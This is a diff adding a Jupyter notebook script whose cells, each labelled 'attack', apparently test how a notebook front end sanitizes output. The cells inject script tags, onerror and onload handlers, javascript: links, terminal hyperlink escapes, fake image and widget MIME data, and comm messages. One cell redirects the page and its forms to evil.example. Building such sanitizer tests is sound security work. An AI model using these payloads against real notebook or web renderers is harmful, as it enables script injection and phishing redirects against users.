@@ -1,0 +1,48 @@
+# %% setup
+from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display
+
+PAYLOAD = "<script>alert('owned')</script><img src=x onerror=alert('owned')>"
+
+# %% attack: HTML with a script
+display(HTML(PAYLOAD))
+
+# %% attack: JavaScript
+display(Javascript("alert('owned')"))
+
+# %% attack: Markdown with a script
+display(Markdown(PAYLOAD + "\n[x](javascript:alert('owned'))"))
+
+# %% attack: SVG with a handler
+display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('owned')\"><script>alert('owned')</script></svg>"))
+
+# %% attack: LaTeX with a link
+display(Latex(r"$\href{javascript:alert('owned')}{x}$" + PAYLOAD))
+
+# %% attack: a script in plain text
+print(PAYLOAD)
+print("\x1b]8;;javascript:alert('owned')\x07link\x1b]8;;\x07")
+
+# %% attack: a script as the message of an error
+raise ValueError(PAYLOAD)
+
+# %% attack: a picture that is none
+display({"image/png": PAYLOAD, "image/jpeg": "\" onerror=\"alert('owned')", "text/plain": PAYLOAD}, raw=True)
+
+# %% attack: a widget
+display({"application/vnd.jupyter.widget-view+json": {"model_id": "owned"}, "application/vnd.custom+json": PAYLOAD}, raw=True)
+
+# %% attack: a comm
+get_ipython().kernel.comm_manager.targets["x"] = None
+from comm import create_comm
+create_comm(target_name="owned", data={"html": PAYLOAD})
+
+# %% attack: a page that refreshes itself
+display(HTML("<meta http-equiv=refresh content='0;url=http://evil.example'><base href=http://evil.example><form action=http://evil.example>"))
+
+# %% attack: an update of somebody else's output
+display(HTML("a"), display_id="points")
+display(HTML(PAYLOAD), display_id="points", update=True)
+
+# %% attack: a source cell with markup
+# </code></pre><script>alert('owned')</script>
+x = "</div></body><script>alert('owned')</script>"
